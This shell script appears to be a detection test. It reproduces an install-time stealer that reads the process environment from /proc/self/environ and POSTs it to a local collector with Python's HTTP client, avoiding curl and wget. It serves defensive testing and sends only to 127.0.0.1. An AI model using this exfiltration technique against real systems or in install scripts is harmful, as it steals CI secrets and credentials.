#!/bin/sh
# technique: T1552.001 Unsecured Credentials (CI secrets in the environment); T1041 Exfiltration Over C2 Channel; T1059.006 Python
# reproduces: install-time stealers that read the environment through /proc/self/environ and post it with the interpreter's own HTTP client, so no curl or wget ever runs
# expect: environment-sent-to-network ^python3(\.[0-9]+)?$
# exec-borne: no
#
# cat reads its own /proc/self/environ (the environment it inherited);
# tr makes it readable; python reads that on stdin, then connects.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

cat /proc/self/environ | tr '\000' '\n' | python3 -c '
import sys, urllib.request
body = sys.stdin.read().encode()
urllib.request.urlopen(urllib.request.Request(sys.argv[1], data=body, method="POST"), timeout=10)
' "http://127.0.0.1:${BW_ATTACK_PORT:?}/collect"
